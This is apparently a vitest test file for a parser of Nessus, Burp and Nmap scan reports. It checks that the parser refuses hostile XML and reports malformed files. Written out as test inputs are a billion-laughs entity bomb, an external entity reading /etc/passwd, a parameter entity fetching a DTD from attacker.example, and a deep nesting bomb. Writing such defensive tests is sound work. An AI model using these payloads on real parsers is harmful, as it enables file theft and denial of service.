import { describe, expect, it } from 'vitest';
import { parseScan, ScanParseError, type ScanFormat } from './index.ts';
import { LIMITS } from './limits.ts';
import { readFixture } from './testing/scan-fixtures.ts';

const utf8 = (text: string) => new TextEncoder().encode(text);

/** Runs the parser and returns the ScanParseError it must throw. */
function parseError(bytes: Uint8Array, format?: ScanFormat): ScanParseError {
  try {
    parseScan(bytes, format === undefined ? {} : { format });
  } catch (error) {
    expect(error).toBeInstanceOf(ScanParseError);
    return error as ScanParseError;
  }
  throw new Error('expected a ScanParseError');
}

const NESSUS_HEAD = '<?xml version="1.0" ?>\n';

describe('entity declarations', () => {
  it('refuses the billion laughs', () => {
    const lol = [
      '<?xml version="1.0"?>',
      '<!DOCTYPE NessusClientData_v2 [',
      ' <!ENTITY lol "lol">',
      ...Array.from({ length: 9 }, (_, i) => ` <!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`),
      ']>',
      '<NessusClientData_v2><Report name="x"><ReportHost name="h">&lol9;</ReportHost></Report></NessusClientData_v2>',
    ].join('\n');
    const error = parseError(utf8(lol), 'nessus');
    expect(error.format).toBe('nessus');
    expect(error.message).toMatch(/^Nessus file declares XML entities/);
    expect(error.line).toBe(3);
  });

  it('refuses external entities and parameter entities', () => {
    const external =
      '<?xml version="1.0"?>\n<!DOCTYPE issues [\n<!ENTITY xxe SYSTEM ' +
      '"file:///etc/passwd">\n]>\n<issues><issue><name>&xxe;</name></issue></issues>';
    expect(parseError(utf8(external), 'burp').message).toMatch(/entity declarations are refused/);
    const parameter =
      '<?xml version="1.0"?>\n<!DOCTYPE nmaprun [<!ENTITY % remote SYSTEM ' +
      '"http://attacker.example/x.dtd"> %remote;]>\n<nmaprun/>';
    expect(parseError(utf8(parameter), 'nmap').format).toBe('nmap');
  });

  it('rejects references to undefined entities with a position', () => {
    const error = parseError(
      utf8(`${NESSUS_HEAD}<NessusClientData_v2>\n<Report name="&evil;"/></NessusClientData_v2>`),
      'nessus',
    );
    expect(error.message).toMatch(/^Nessus file is not well-formed XML at line 3, column \d+: .*entity/);
    expect(error.line).toBe(3);
  });

  it("accepts Burp's inline DTD of ELEMENT and ATTLIST declarations, XML 1.1 and CDATA", () => {
    const burp = [
      '<?xml version="1.1"?>',
      '<!DOCTYPE issues [',
      '<!ELEMENT issues (issue*)>',
      '<!ATTLIST issues burpVersion CDATA "">',
      ']>',
      '<issues burpVersion="2024.1">',
      '<issue><type>1049088</type><name><![CDATA[SQL <injection>]]></name><host ip="10.0.0.1">https://a.example</host>',
      '<path><![CDATA[/x]]></path><location><![CDATA[/x [id ' +
        'parameter]]]></location><severity>High</severity><confidence>Firm</confidence></issue>',
      '</issues>',
    ].join('\n');
    const result = parseScan(utf8(burp), { format: 'burp' });
    expect(result.findings[0]!.title).toBe('SQL <injection>');
    expect(result.findings[0]!.occurrences[0]!.parameter).toBe('id parameter');
  });
});

describe('structure', () => {
  it('names the expected and the found root element', () => {
    const error = parseError(readFixture('nmap/dd__nmap_1port.xml'), 'nessus');
    expect(error.format).toBe('nessus');
    expect(error.message).toMatch(/must start with a <NessusClientData_v2> element but starts with <nmaprun>/);
    expect(error.line).toBe(4);
  });

  it('reports a truncated file at its end', () => {
    const full = readFixture('nessus/dd__nessus_many_vuln.xml');
    const error = parseError(full.subarray(0, 200_000), 'nessus');
    expect(error.message).toMatch(
      /^Nessus file is not well-formed XML at line \d+, column \d+: the file ends inside <\w+>; it looks truncated/,
    );
    expect(error.line).toBeGreaterThan(1);
    expect(error.column).toBeGreaterThan(0);
  });

  it('rejects an empty file and one without elements', () => {
    expect(parseError(new Uint8Array(0), 'nmap').message).toMatch(/contains no XML element/);
    expect(parseError(utf8('<?xml version="1.0"?>\n<!-- nothing -->\n'), 'burp').format).toBe('burp');
  });

  it('rejects a 50,000-level nesting bomb quickly', () => {
    const bomb = utf8(
      `${NESSUS_HEAD}<NessusClientData_v2>${'<a>'.repeat(50_000)}${'</a>'.repeat(50_000)}</NessusClientData_v2>`,
    );
    const error = parseError(bomb, 'nessus');
    expect(error.message).toMatch(new RegExp(`nested more than ${LIMITS.xmlDepth} levels`));
    // Quickly, whatever the machine's speed: the reader stops at the limit's element, having read
    // 256 of the 50,000 levels.
    expect(error.line).toBe(2);
    expect(error.column).toBe('<NessusClientData_v2>'.length + LIMITS.xmlDepth * '<a>'.length);
  });

  it('rejects a single text node larger than the node limit', () => {
    const head =
      `${NESSUS_HEAD}<NessusClientData_v2><Report name="r"><ReportHost ` +
      `name="h"><ReportItem pluginID="1" severity="1"><plugin_output>`;
    const bytes = new Uint8Array(head.length + LIMITS.xmlNodeChars + 2_000_000).fill(0x61);
    bytes.set(utf8(head));
    const error = parseError(bytes, 'nessus');
    expect(error.message).toMatch(new RegExp(`larger than ${LIMITS.xmlNodeChars / 1024 / 1024} MiB`));
  });
});

describe('bytes that are not text', () => {
  it('rejects binary garbage, naming the format when one was chosen', () => {
    let seed = 42;
    const garbage = Uint8Array.from({ length: 4096 }, () => {
      seed = (seed * 1_103_515_245 + 12_345) % 2 ** 31;
      return seed >>> 23;
    });
    expect(parseError(garbage).format).toBeNull();
    expect(parseError(garbage, 'burp').format).toBe('burp');
    expect(parseError(utf8('\u0000\u0001\u0002 PK zip'), 'nmap').format).toBe('nmap');
  });

  it('rejects invalid UTF-8 with the line it is on', () => {
    const text = `${NESSUS_HEAD}<NessusClientData_v2>\n<Report name="r">\n<ReportHost name="X">\n`;
    const bytes = new Uint8Array([...utf8(text), 0xc3, 0x28, ...utf8('</ReportHost></Report></NessusClientData_v2>')]);
    const error = parseError(bytes, 'nessus');
    expect(error.message).toMatch(/not valid UTF-8 text \(bad byte sequence at byte 85\)/);
    expect(error.line).toBe(5);
  });

  it('reads UTF-16 and declared single-byte encodings', () => {
    const xml =
      '<?xml version="1.0" encoding="ISO-8859-1"?>\n<nmaprun ' +
      'version="7.9"><host><status state="up"/><address addr="10.0.0.9" ' +
      'addrtype="ipv4"/><hostnames><hostname name="caf\u00e9" ' +
      'type="PTR"/></hostnames><ports><port protocol="tcp" portid="80"><state ' +
      'state="open"/></port></ports></host></nmaprun>';
    const latin1 = Uint8Array.from(xml, (c) => c.charCodeAt(0));
    expect(parseScan(latin1).findings[0]!.occurrences[0]!.asset.hostname).toBe('caf\u00e9');
    const utf16 = new Uint8Array(2 + xml.length * 2);
    utf16.set([0xff, 0xfe]);
    for (let i = 0; i < xml.length; i++) utf16[2 + i * 2] = xml.charCodeAt(i);
    expect(parseScan(utf16, { format: 'nmap' }).findings).toHaveLength(1);
  });

  it('refuses an encoding it cannot decode', () => {
    expect(parseError(utf8('<?xml version="1.0" encoding="x-klingon"?><nmaprun/>'), 'nmap').message).toMatch(
      /encoding "x-klingon"/,
    );
  });
});

describe('content before the XML declaration', () => {
  it('skips it, warns and sets the quirk (rule M6)', () => {
    const result = parseScan(readFixture('nmap/scb__localhost-smb-script.xml'));
    expect(result.stats.quirk).toBe('content_before_xml_declaration');
    expect(result.warnings[0]).toMatch(/Skipped 97 bytes \(6 lines\) before the XML declaration/);
  });

  it('keeps line numbers true to the file after skipping', () => {
    const error = parseError(utf8('<!-- licence -->\n\n<?xml version="1.0"?>\n<nmaprun>\n<host>\n</nmaprun>'), 'nmap');
    expect(error.line).toBe(6);
  });

  it('does not take an <?xml inside the document for a declaration', () => {
    // XML end-of-line handling turns CRLF into LF; that is why Burp exports default to base64.
    const body = 'POST / HTTP/1.1\n\n<?xml version="1.0"?><a/>';
    const burp =
      `<issues>\n<issue><type>1</type><name>x</name><host>http://h</host><severity>Low</severity><requestresponse><request ` +
      `` +
      `` +
      `base64="false"><![CDATA[${body}]]></request></requestresponse></issue></issues>`;
    const result = parseScan(utf8(burp), { format: 'burp' });
    expect(result.stats.quirk).toBeNull();
    expect(result.findings[0]!.occurrences[0]!.evidence?.request).toBe(body);
  });
});
